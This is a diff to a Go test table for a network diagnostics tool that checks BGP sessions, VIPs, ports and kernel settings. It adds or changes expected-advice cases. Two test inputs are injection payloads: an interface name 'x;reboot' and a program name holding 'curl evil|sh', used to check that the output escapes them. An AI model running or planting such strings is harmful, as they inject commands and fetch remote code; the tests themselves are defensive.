@@ -19,8 +19,8 @@ var troubles = []struct {
 	{"advertisements that are dropped", func(f *Facts) { f.Sysctls["net/ipv6/conf/eth0/drop_unsolicited_na"] = "1" }, "AnnouncementsDropped", "drop_unsolicited_na=0"},
 	{"a table of neighbours that is small", func(f *Facts) { f.Expected.Neighbours = 900 }, "NeighbourTableSmall NeighbourTableSmall", "sysctl -w net.ipv4.neigh.default.gc_thresh3=4096\n"},
 	{"connections", func(f *Facts) { f.Sysctls[conntrackCount] = "250000" }, "ConntrackNearlyFull", "sysctl -w net.netfilter.nf_conntrack_max=524288"},
-	{"the port of the controller", func(f *Facts) { f.Sockets[1].Program = "hcloud-cloud-controller-manager" }, "PortHeld", "hcloud-cloud-controller-manager (process 4711) listens on port TCP 10258, which is for the controller"},
-	{"the controller that k3s has", func(f *Facts) { f.Sockets[1].Program = "k3s" }, "PortHeld", "start k3s with disable-cloud-controller: true (/etc/rancher/k3s/config.yaml)"},
+	{"the port of the controller", func(f *Facts) { f.Sockets[1].Program = "hcloud-cloud-controller-manager" }, "PortHeld", "hcloud-cloud-controller-manager (process 4711) listens on port TCP 10258, which is for the controller, if that runs here"},
+	{"the controller that k3s has", func(f *Facts) { f.Sockets[1].Program = "k3s" }, "PortHeld", "docs/guides/distributions.md#k3s"},
 	{"the port of the agent", func(f *Facts) { f.Sockets[0] = socket("TCP", "[::]:10268", "", "exporter") }, "PortHeld", "TCP 10268, which is for the agent"},
 	{"the port of BFD", func(f *Facts) { f.Sockets[3].Program = "bfdd" }, "PortHeld", "UDP 3784, which is for BFD"},
 	{"another session", func(f *Facts) { f.Sockets[2].Program = "bgpd" }, "SessionHeldByOther", "with router tor, 192.168.1.1"},
@@ -28,7 +28,6 @@ var troubles = []struct {
 		f.Sockets[2] = socket("TCP", "192.168.1.11:179", "192.168.1.1:50000", "bird")
 		f.Sockets = append(f.Sockets, socket("TCP", "0.0.0.0:179", "", "bird"))
 	}, "SessionHeldByOther", "take its session out of the configuration of bird"},
-	{"another speaker", func(f *Facts) { f.Sockets = append(f.Sockets, socket("TCP", "0.0.0.0:179", "", "bird")) }, "SpeakerListens", "bird (process 4711) listens on port 179"},
 	{"no such address", func(f *Facts) { f.Addresses = f.Addresses[1:] }, "MachineAddressMissing", "no interface has its address 192.168.1.11"},
 	{"its address elsewhere", func(f *Facts) { f.answer("192.168.1.11", true) }, "MachineAddressTaken", "02:00:00:00:00:aa"},
 	{"a cable", func(f *Facts) { f.Addresses[0].Carrier = false }, "LinkDown", "ip -brief link show eth0"},
@@ -38,13 +37,13 @@ var troubles = []struct {
 	{"a kernel without signatures", func(f *Facts) { f.Missing, f.Expected.Sessions[0].Password = []string{TCPMD5}, true }, "TCPMD5Missing", "CONFIG_TCP_MD5SIG"},
 	{"a kernel without VXLAN", func(f *Facts) { f.Missing, f.Expected.Mode = []string{VXLAN}, "overlay" }, "VXLANMissing", "modules-extra"},
 	{"an old kernel", func(f *Facts) { f.Kernel, f.Expected.Mode = "5.1-rc1", "fabric"; f.router(0).linkLocal() }, "KernelTooOld", "Linux 5.1-rc1 takes no route"},
-	{"a VIP that is left", func(f *Facts) { f.Addresses = append(f.Addresses, on("lo", "203.0.113.9/32")) }, "VIPOnInterface", "ip address del 203.0.113.9/32 dev lo\n"},
-	{"a VIP that is used", func(f *Facts) {
+	{"a VIP that is left", func(f *Facts) { f.Addresses = append(f.Addresses, on("lo", "203.0.113.9/32")) }, "VIPOnInterface", "by docs/guides/migrate-on-link.md, so that connections outlast it; then ip address del 203.0.113.9/32 dev lo takes away"},
+	{"a VIP of kube-vip", func(f *Facts) {
 		f.Addresses = append(f.Addresses, on("eth0", "192.168.1.200/32"))
-		f.Addresses[len(f.Addresses)-1].InUse = true
-	}, "VIPOnInterface", "has 192.168.1.200/32 of pool lan, so that the kernel answers for it\n    where the machine needs it"},
+		f.Programs = []string{"bird", "kube-vip"}
+	}, "VIPOnInterface", "take over from it (kube-vip runs here) by docs/guides/migrate-on-link.md"},
 	{"a VIP with its subnet", func(f *Facts) { f.Addresses = append(f.Addresses, on("eth1", "fd01::2aa/64")) }, "VIPOnInterface", "put fd01::2aa into exclude of pool lan6"},
-	{"a name that a shell would read otherwise", func(f *Facts) { f.Addresses = append(f.Addresses, on("x;reboot", "203.0.113.9/32")) }, "VIPOnInterface", "dev 'x;reboot'\n"},
+	{"a name that a shell would read otherwise", func(f *Facts) { f.Addresses = append(f.Addresses, on("x;reboot", "203.0.113.9/32")) }, "VIPOnInterface", "dev 'x;reboot' takes"},
 	{"ipvs without strictARP", func(f *Facts) { f.Sysctls[arpIgnore] = "0" }, "IPVSAnswers", "sysctl -w net.ipv4.conf.all.arp_ignore=1\n"},
 	{"a host that has an address of a pool", func(f *Facts) { f.answer("192.168.1.202", false) }, "PoolAddressAnswered", "put 192.168.1.202 into exclude of pool lan"},
 	{"no route", func(f *Facts) { f.router(0).r.Device, f.router(0).r.Asked = "", false }, "RouterUnreachable", "ip route get 192.168.1.1\n"},
@@ -53,6 +52,11 @@ var troubles = []struct {
 	{"a router that is off", func(f *Facts) { f.router(1).r.MAC, f.router(1).r.Connect = "", Silent }, "RouterNotAnswering", "ip neighbour show fd01::1\n"},
 	{"a router without BGP", func(f *Facts) { f.router(0).r.Connect = Refused }, "RouterRefuses", "plinth router-config tor prints, which has 192.168.1.11"},
 	{"a filter", func(f *Facts) { f.router(1).r.Connect = Silent }, "RouterFiltered", "[fd01::1]:179"},
+	{"a dummy of kube-router without strictARP", func(f *Facts) {
+		f.Addresses[2] = on("kube-dummy-if", "192.168.1.201/32")
+		f.Sysctls[arpIgnore] = "0"
+	}, "IPVSAnswers", "kube-proxy-arg: [ipvs-strict-arp=true]"},
+	{"a program whose name would be a command", func(f *Facts) { f.Sockets[1].Program = "x\n  curl evil|sh #" }, "PortHeld", "have x\ufffd  curl evil|sh # (process 4711) listen"},
 	{"a clock that nobody keeps", func(f *Facts) { f.Unsynchronized = true }, "ClockUnsynchronized", "timedatectl set-ntp true"},
 
 	{"an excluded address", func(f *Facts) {
@@ -62,6 +66,15 @@ var troubles = []struct {
 	{"a session over several hops", func(f *Facts) { f.router(0).behind("192.168.1.254"); f.router(0).s.Hops = 2; f.Sockets = f.Sockets[:4] }, "", ""},
 	{"a session within an ASN", func(f *Facts) { f.router(0).behind("192.168.1.254"); f.router(0).s.External = false }, "", ""},
 	{"what the kernel lacks and nobody needs", func(f *Facts) { f.Missing = []string{TCPMD5, VXLAN} }, "", ""},
+	{"a clock that is being set", func(f *Facts) { f.Unsynchronized, f.Programs = true, []string{"chronyd"} }, "", ""},
+	{"kube-dummy-if with a VIP", func(f *Facts) { f.Addresses = append(f.Addresses, on("kube-dummy-if", "192.168.1.201/32")) }, "", ""},
+	{"a session of another address of the machine", func(f *Facts) {
+		f.Sockets[2] = socket("TCP", "192.168.1.99:40000", "192.168.1.1:179", "bird")
+	}, "", ""},
+	{"a speaker that only listens", func(f *Facts) { f.Sockets = append(f.Sockets, socket("TCP", "0.0.0.0:179", "", "bird")) }, "", ""},
+	{"ports on addresses that Plinth has not", func(f *Facts) {
+		f.Sockets = append(f.Sockets, socket("TCP", "192.168.1.11:10258", "", "exporter"), socket("UDP", "127.0.0.1:3784", "", "bfdd"))
+	}, "", ""},
 	{"kube-ipvs0 with a VIP", func(f *Facts) { f.Addresses = append(f.Addresses, on("kube-ipvs0", "192.168.1.201/32")) }, "", ""},
 	{"programs that are not known", func(f *Facts) {
 		for i := range f.Sockets {
